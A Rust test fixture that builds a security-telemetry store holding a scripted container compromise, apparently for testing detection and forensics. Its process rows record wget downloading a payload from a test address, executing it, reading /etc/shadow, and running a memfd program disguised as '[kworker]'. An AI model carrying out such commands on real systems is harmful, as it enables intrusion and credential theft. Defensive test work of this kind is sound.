//! A small store with a known story, sealed through quarry-store exactly like the recorder
//! seals: container `web` (id c1aaaa...) runs a shell entrypoint (pid 100) that starts wget
//! (pid 101) and, after pid 101 has exited and the number is reused, cat (pid 101 again);
//! wget writes /tmp/payload, which is then executed; cat reads /etc/shadow; pid 101 connects
//! out; pid 103 runs a program from a memfd; a responder isolates the container; CPU 1 loses
//! 7 events. Container `db` (c2bbbb...)
//! only runs its entrypoint.

#![allow(dead_code)]

use std::path::Path;

use chrono::{DateTime, Duration, TimeZone, Utc};
use quarry_store::schema::*;
use quarry_store::{Partition, Store, Table};

pub const HOST: &str = "node1";
pub const WEB: &str = "c1aaaa0000000000000000000000000000000000000000000000000000000001";
pub const DB: &str = "c2bbbb0000000000000000000000000000000000000000000000000000000002";

pub fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 1, 10, 0, 0).unwrap()
}

fn at(ms: i64) -> DateTime<Utc> {
    t0() + Duration::milliseconds(ms)
}

fn id(ms: i64, pid: i32, comm: &str, container: &str) -> RowIdentity {
    RowIdentity {
        time: at(ms),
        ktime_ns: 1_000_000_000 + ms as u64 * 1_000_000,
        pid,
        tid: pid,
        comm: comm.into(),
        cgroup_id: if container == WEB { 11 } else { 22 },
        container_id: Some(container.into()),
    }
}

#[allow(clippy::too_many_arguments)] // one row of the fixture per line reads best
fn proc(
    ms: i64,
    pid: i32,
    start: u64,
    ppid: i32,
    pstart: u64,
    comm: &str,
    c: &str,
    event: ProcessEvent,
) -> ProcessRow {
    ProcessRow {
        id: id(ms, pid, comm, c),
        ppid: Some(ppid),
        start_ns: Some(start),
        parent_start_ns: Some(pstart),
        event,
    }
}

fn exec(filename: &str, argv: &[&str]) -> ProcessEvent {
    ProcessEvent::Exec {
        filename: filename.into(),
        argv: argv.iter().map(|a| a.to_string()).collect(),
        argv_truncated: false,
        uid: 0,
        gid: 0,
        euid: 0,
        egid: 0,
    }
}

fn exit(code: i32) -> ProcessEvent {
    ProcessEvent::Exit {
        exit_code: Some(code),
        signal: None,
        core_dumped: false,
    }
}

fn file(
    ms: i64,
    pid: i32,
    comm: &str,
    event: &'static str,
    path: &str,
    flags: u64,
    ret: i64,
) -> FileRow {
    FileRow {
        id: id(ms, pid, comm, WEB),
        event,
        syscall: "openat",
        path: Some(path.into()),
        abs_path: Some(path.into()),
        resolution: "absolute",
        path2: None,
        abs_path2: None,
        flags: Some(flags),
        mode: Some(0o644),
        owner_uid: None,
        owner_gid: None,
        fd: None,
        ret: Some(ret),
        kernel_path: None,
        path_resolution: None,
    }
}

/// Seals the fixture into a new store at `root`.
pub fn build(root: &Path) -> Store {
    let store = Store::create(root).unwrap();
    let seal = |table: Table, batch: RecordBatchRef, seq: u64| {
        store
            .seal(&Partition::for_time(table, t0(), HOST), &batch, 7, seq)
            .unwrap();
    };
    type RecordBatchRef = arrow::record_batch::RecordBatch;

    let processes = vec![
        proc(
            0,
            100,
            1000,
            1,
            1,
            "sh",
            WEB,
            exec("/bin/sh", &["sh", "-c", "serve"]),
        ),
        proc(
            0,
            200,
            1500,
            1,
            1,
            "sh",
            DB,
            exec("/bin/sh", &["sh", "-c", "db"]),
        ),
        proc(100, 101, 2000, 100, 1000, "sh", WEB, ProcessEvent::Fork),
        proc(
            110,
            101,
            2000,
            100,
            1000,
            "wget",
            WEB,
            exec("/usr/bin/wget", &["wget", "http://198.18.0.1/p"]),
        ),
        proc(300, 101, 2000, 100, 1000, "wget", WEB, exit(0)),
        proc(400, 102, 4000, 100, 1000, "sh", WEB, ProcessEvent::Fork),
        proc(
            410,
            102,
            4000,
            100,
            1000,
            "payload",
            WEB,
            exec("/tmp/payload", &["/tmp/payload"]),
        ),
        proc(500, 101, 9000, 100, 1000, "sh", WEB, ProcessEvent::Fork),
        proc(
            510,
            101,
            9000,
            100,
            1000,
            "cat",
            WEB,
            exec("/bin/cat", &["cat", "/etc/shadow"]),
        ),
        proc(600, 101, 9000, 100, 1000, "cat", WEB, exit(1)),
        proc(640, 103, 11000, 100, 1000, "sh", WEB, ProcessEvent::Fork),
        proc(
            650,
            103,
            11000,
            100,
            1000,
            "sh",
            WEB,
            ProcessEvent::Signal {
                name: "memfd_create",
                ids: Ids::default(),
                target_pid: None,
                flags: Some(1),
                detail: Some("stage2".into()),
                ret: Some(3),
            },
        ),
        proc(
            660,
            103,
            11000,
            100,
            1000,
            "3",
            WEB,
            exec("/proc/self/fd/3", &["[kworker]"]),
        ),
    ];
    // Two segments, as two seal intervals would make.
    seal(Table::Process, process_batch(HOST, &processes[..5]), 1);
    seal(Table::Process, process_batch(HOST, &processes[5..]), 2);

    let files = vec![
        file(
            200,
            101,
            "wget",
            "open",
            "/tmp/payload",
            0o1 | 0o100 | 0o1000,
            3,
        ),
        file(520, 101, "cat", "open", "/etc/shadow", 0, 3),
        file(530, 101, "cat", "open", "/etc/hostname", 0, 3),
    ];
    seal(Table::File, file_batch(HOST, &files), 3);

    let net = vec![NetRow {
        id: Some(id(150, 101, "wget", WEB)),
        event: "connect",
        syscall: Some("connect"),
        fd: Some(3),
        family: Some("inet".into()),
        protocol: Some("tcp"),
        local_addr: Some("198.18.0.2".into()),
        local_port: Some(40000),
        remote_addr: Some("198.18.0.1".into()),
        remote_port: Some(80),
        ret: Some(0),
        ..Default::default()
    }];
    seal(Table::Net, net_batch(HOST, &net), 4);

    seal(
        Table::Gap,
        gap_batch(
            HOST,
            &[GapRow {
                time: at(450),
                ktime_ns: 1_450_000_000,
                since: at(440),
                cpu: 1,
                lost: 7,
                reason: GapReason::RingBufferFull,
                lost_table: None,
            }],
        ),
        5,
    );
    seal(
        Table::Action,
        action_batch(
            HOST,
            &[ActionRow {
                time: at(700),
                action: "isolate".into(),
                actor: "alice".into(),
                container_id: Some(WEB.into()),
                container_name: Some("web".into()),
                reason: Some("IR-1".into()),
                detail: None,
                result: "ok".into(),
                error: None,
                command: "quarry isolate web".into(),
            }],
        ),
        6,
    );
    let container = |cid: &str, name: &str, init: i32| ContainerRow {
        time: at(1000),
        container_id: cid.into(),
        name: Some(name.into()),
        runtime: "runc".into(),
        image: None,
        cgroup_id: Some(if cid == WEB { 11 } else { 22 }),
        cgroup_path: format!("/quarry/{name}"),
        init_pid: Some(init),
        netns_inode: None,
        host_network: false,
        created: None,
        pod_uid: None,
        pod_name: None,
        pod_namespace: None,
        first_seen: at(0),
        last_seen: at(1000),
        events: 10,
    };
    seal(
        Table::Container,
        container_batch(
            HOST,
            &[container(WEB, "web", 100), container(DB, "db", 200)],
        ),
        7,
    );
    store
}
